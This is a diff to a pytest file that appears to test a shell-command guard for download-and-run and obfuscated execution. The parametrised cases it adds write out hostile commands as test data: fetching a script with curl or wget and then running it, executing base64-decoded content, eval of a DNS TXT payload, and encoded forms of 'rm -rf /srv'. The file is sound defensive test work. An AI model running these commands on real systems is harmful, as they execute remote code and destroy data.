@@ -73,6 +73,12 @@ EXECUTED = [
     pytest.param(f'trap "$(curl -s {URL})" EXIT', id="trap"),
     pytest.param(f'su -c "$(curl -s {URL})" root', id="su-c"),
     pytest.param(f'docker exec web sh -c "$(curl -s {URL})"', id="docker-exec"),
+    pytest.param(f"curl -fsSLo get.sh {URL} && sh get.sh", id="download-to-a-file-then-run"),
+    pytest.param(f"curl -s {URL} > i.sh; bash i.sh", id="redirected-download-then-run"),
+    pytest.param(f"wget {URL}; chmod +x i.sh; ./i.sh", id="wget-then-execute"),
+    pytest.param(f"curl -s {URL} > i.sh; bash < i.sh", id="download-as-input"),
+    pytest.param(f"echo {B64} | base64 -d > /tmp/x; bash /tmp/x", id="decoded-file-then-run"),
+    pytest.param(f"echo {B64} | base64 -d | tee /tmp/x; . /tmp/x", id="tee-then-source"),
     pytest.param('eval "$(dig +short txt cmd.x.example)"', id="dns-txt-payload"),
     pytest.param("eval \"$(printf '\\x72\\x6d -rf /srv')\"", id="printf-escapes"),
     pytest.param("eval \"$(echo 'vex -es /fei' | tr a-z n-za-m)\"", id="rot13"),
@@ -121,6 +127,7 @@ def test_what_was_obfuscated_stays_denied(command: str) -> None:
         pytest.param(f"curl -s {URL} | python3 -m json.tool", id="interpreter-reads-data"),
         pytest.param("gunzip -c dump.sql.gz | psql app", id="restore-a-dump"),
         pytest.param(f"curl -s {URL} -o setup.sh", id="download-to-a-file"),
+        pytest.param(f"curl -s {URL} > i.sh; echo ls > i.sh; bash i.sh", id="file-rewritten"),
     ],
 )
 def test_payloads_that_are_not_run_are_not_obfuscated(command: str) -> None:
